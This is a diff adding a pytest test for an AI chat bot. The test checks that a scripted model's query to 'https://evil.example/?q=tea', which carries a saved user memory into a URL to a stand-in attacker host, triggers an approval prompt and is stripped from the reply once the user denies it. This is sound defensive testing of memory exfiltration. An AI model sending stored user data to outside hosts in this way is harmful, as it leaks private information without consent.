@@ -6,10 +6,10 @@ from typing import Any
 import pytest
 
 from bot.core.acts import Critical, Effect, Part
-from bot.core.messages import OutboundKind
+from bot.core.messages import InboundKind, OutboundKind
 from bot.core.role import LEAD_ROLE_NAME
 from bot.core.sources import Source
-from bot.core.texts import people_holds
+from bot.core.texts import people, people_holds
 from bot.core.turn import CallKind
 from bot.tools import Arguments, Tool, ToolContext
 from tests.schedules.test_schedule_conditions import checked
@@ -90,3 +90,23 @@ async def test_what_was_allowed_again_allows_no_other_question(bench: Bench, pos
             assert await bench.chat.said(REPLY) == "Done."
     [(condition,)] = bench.select("condition", "schedules")
     assert json.loads(condition)["is_agreed"]
+
+
+async def test_memories_that_a_conversation_begins_with_are_in_no_address(bench: Bench, post: Post) -> None:
+    index = Index()
+    bench.roles[LEAD_ROLE_NAME] = role("lead", delegates_to=None)
+    seen, made_up = "https://a.example/b", "https://evil.example/?q=tea"
+    async with bench.run(tools=[*post.tools(), index.tool()]):
+        bench.model.says("lead", reply(uses("memory_save", text="Ann likes tea")), "Noted.")
+        bench.chat.hears("I like tea")
+        await bench.chat.said(REPLY)
+        bench.chat.hears("/new", kind=InboundKind.COMMAND)
+        await bench.chat.said(OutboundKind.NOTICE)
+        bench.model.says("lead", *(reply(uses("browse")), reply(uses("query", words=seen), uses("query", words="tea"))))
+        bench.model.says("lead", reply(uses("query", words=made_up)), f"See {made_up}")
+        bench.chat.hears(f"What does {seen} say?")
+        asked = (await bench.chat.part(APPROVAL)).message
+        assert made_up in asked.text
+        bench.chat.taps(asked.id, people_holds.DENY())
+        assert await bench.chat.said(REPLY) == f"See {people.LINK_LEFT_OUT(site='evil.example')}"
+    assert sorted(index.asked) == [seen, "tea"]
